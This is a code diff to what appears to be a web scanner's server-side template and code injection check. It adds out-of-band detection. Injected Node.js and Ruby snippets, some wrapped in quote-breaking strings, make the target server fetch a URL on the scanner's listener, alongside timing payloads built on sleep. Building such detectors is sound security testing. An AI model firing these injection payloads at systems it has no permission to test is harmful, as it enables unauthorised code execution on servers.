@@ -364,13 +364,10 @@ const SURELY_CODE = /eval|expr|formula|script|snippet|exec|^func|^code$|source[-
  * ended only where an error says that quotes do so.
  */
 async function waitsOf(trial: Trial): Promise<ReadonlyArray<(seconds: number) => string>> {
-  const { value, name } = trial.point;
-  const broken = await trial.broken();
-  if (newDatabaseError(broken.text, trial.control.text)) return [];
-  const isBare = SURELY_CODE.test(name) || failsAsCode(trial.other, trial.control) || failsByItself(trial);
-  const isQuoted = CODE_ERROR.test(broken.text) && !CODE_ERROR.test(trial.control.text);
+  const { value } = trial.point;
+  const { isBare, isQuoted } = await readingOf(trial);
   return [
-    ...(isBare
+    ...(isBare || failsByItself(trial)
       ? [
           (n: number) => `${mayWiden(trial.point) ? '' : '0 .'}sleep(${n});`,
           (n: number) => `__import__('time').sleep(${n})`,
@@ -378,6 +375,93 @@ async function waitsOf(trial: Trial): Promise<ReadonlyArray<(seconds: number) =>
       : []),
     ...(isQuoted ? ["'", '"'].map((quote) => (n: number) => `${value}${quote}.sleep(${n}).${quote}`) : []),
   ];
+}
+
+/** Whether the value is read as code where it stands, or within quotes. */
+async function readingOf(trial: Trial): Promise<{ isBare: boolean; isQuoted: boolean }> {
+  const broken = await trial.broken();
+  if (newDatabaseError(broken.text, trial.control.text)) return { isBare: false, isQuoted: false };
+  return {
+    isBare: SURELY_CODE.test(trial.point.name) || failsAsCode(trial.other, trial.control),
+    isQuoted: CODE_ERROR.test(broken.text) && !CODE_ERROR.test(trial.control.text),
+  };
+}
+
+const script = (url: string, quote: string) =>
+  `(typeof require=='function'?require:process.mainModule.require)('http').get('${url}')`.replaceAll("'", quote);
+
+/** For languages that cannot sleep: code that asks our listener, once. */
+async function askingCodes(trial: Trial): Promise<ReadonlyArray<(url: string) => string>> {
+  const { value } = trial.point;
+  const { isBare, isQuoted } = await readingOf(trial);
+  return [
+    ...(isBare
+      ? [(url: string) => script(url, "'"), (url: string) => `require('net/http')||1;Net::HTTP.get(URI('${url}'))`]
+      : []),
+    ...(isQuoted
+      ? [(url: string) => `${value}'+${script(url, '"')}+'`, (url: string) => `${value}"+${script(url, "'")}+"`]
+      : []),
+  ];
+}
+
+const HEARD_MS = 700;
+
+async function asksListener(trial: Trial): Promise<WebSighting | null> {
+  const { listener } = trial.tools;
+  for (const spell of listener ? await askingCodes(trial) : []) {
+    const ask = async () => {
+      const token = trial.tools.token();
+      const url = listener?.urlFor(token) ?? '';
+      const answer = await trial.send(spell(url));
+      const heard = await listener?.heard(token, HEARD_MS);
+      // Who fetches every address that a text names asks for what stands behind it as well.
+      return heard && new RegExp(`/${token} `).test(heard.head) ? { answer, url, from: heard.from } : null;
+    };
+    const first = await ask();
+    const again = first && (await ask());
+    if (!again) continue;
+    const evidence = filled(
+      {
+        it: 'Il codice che il server riceve viene eseguito: ha chiesto {url} al nostro listener (da {from}), e di nuovo per un altro indirizzo.',
+        en: 'The code that the server is sent is run: it asked our listener for {url} (from {from}), and again for another address.',
+      },
+      { url: first.url, from: first.from },
+    );
+    return trial.sighting(CODE.key, evidence, [proof(first.answer, first.url), repeat(again.answer, again.url)]);
+  }
+  return null;
+}
+
+async function calculates(trial: Trial): Promise<WebSighting | null> {
+  const named = isCode(trial.point);
+  // What does not come back cannot come back calculated; a broken template answers with an error instead.
+  const worthwhile = trial.reflects || showsOwn(trial) || named || trial.other.exchange.response?.status === 500;
+  const { templates, interpolates } =
+    worthwhile || trial.atLeast('high') ? await templatesFor(trial) : { templates: [], interpolates: false };
+  const codes = await codesFor(trial, named, interpolates);
+  return firstShown(trial, [...trial.within(templates), ...trial.within(codes)]);
+}
+
+/** A template may be made of what a form has stored, on the page that the form leads on to. */
+async function calculatesLater(trial: Trial): Promise<WebSighting | null> {
+  const landing = trial.atLeast('default') ? await trial.landing() : null;
+  return landing && firstShown(landing, landing.within((await templatesFor(landing)).templates));
+}
+
+async function firstShown(trial: Trial, syntaxes: readonly Syntax[]): Promise<WebSighting | null> {
+  for (const syntax of syntaxes) {
+    const seen = await showsOutput(trial, syntax);
+    if (!seen) continue;
+    const evidence = filled(
+      {
+        it: 'Il server calcola ciò che riceve: “{value}” riceve la risposta “{shown}”, e un’altra coppia di numeri il proprio prodotto. Sintassi: {syntax}.',
+        en: 'The server calculates what is sent: “{value}” is answered with “{shown}”, and another pair of numbers with their own product. Syntax: {syntax}.',
+      },
+      { value: seen.first.value, shown: seen.shown, syntax: syntax.context },
+    );
+    return trial.sighting(syntax.key, evidence, seen.messages);
+  }
+  return null;
 }
 
 export const templateInjection = {
@@ -391,26 +475,8 @@ export const templateInjection = {
   async attack(point, tools) {
     const trial = await Trial.begin(point, tools);
     if (!trial) return [];
-    const named = isCode(point);
-    // What does not come back cannot come back calculated; a broken template answers with an error instead.
-    const worthwhile = trial.reflects || showsOwn(trial) || named || trial.other.exchange.response?.status === 500;
-    const { templates, interpolates } =
-      worthwhile || trial.atLeast('high') ? await templatesFor(trial) : { templates: [], interpolates: false };
-    const codes = await codesFor(trial, named, interpolates);
-    for (const syntax of [...trial.within(templates), ...trial.within(codes)]) {
-      const seen = await showsOutput(trial, syntax);
-      if (!seen) continue;
-      const evidence = filled(
-        {
-          it: 'Il server calcola ciò che riceve: “{value}” riceve la risposta “{shown}”, e un’altra coppia di numeri il proprio prodotto. Sintassi: {syntax}.',
-          en: 'The server calculates what is sent: “{value}” is answered with “{shown}”, and another pair of numbers with their own product. Syntax: {syntax}.',
-        },
-        { value: seen.first.value, shown: seen.shown, syntax: syntax.context },
-      );
-      return [trial.sighting(syntax.key, evidence, seen.messages)];
-    }
-    const called = await callsFunction(trial);
-    return called ? [called] : [];
+    const found = (await calculates(trial)) ?? (await callsFunction(trial)) ?? (await calculatesLater(trial));
+    return found ? [found] : [];
   },
   async waitFor(point, tools) {
     const trial = await Trial.begin(point, tools);
@@ -426,6 +492,7 @@ export const templateInjection = {
       );
       return [trial.sighting(CODE.key, evidence, seen.messages)];
     }
-    return [];
+    const asked = trial && (await asksListener(trial));
+    return asked ? [asked] : [];
   },
 } as const satisfies PointCheck;
